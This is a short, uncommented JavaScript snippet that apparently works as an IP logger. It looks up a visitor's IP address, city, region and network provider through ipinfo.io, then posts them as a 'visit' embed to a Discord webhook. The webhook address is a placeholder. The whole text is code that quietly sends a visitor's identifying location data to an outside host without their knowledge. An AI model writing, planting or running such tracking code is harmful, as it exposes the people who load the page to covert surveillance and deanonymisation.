fetch("https://ipinfo.io/json")
  .then((answer) => answer.json())
  .then((who) => {
    const lines = [
      { name: "Address", value: who.ip },
      { name: "City", value: who.city + ", " + who.region },
      { name: "Network", value: who.org },
    ];
    return fetch("https://discord.com/api/webhooks/000/PLACEHOLDER", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ embeds: [{ title: "visit", fields: lines }] }),
    });
  });
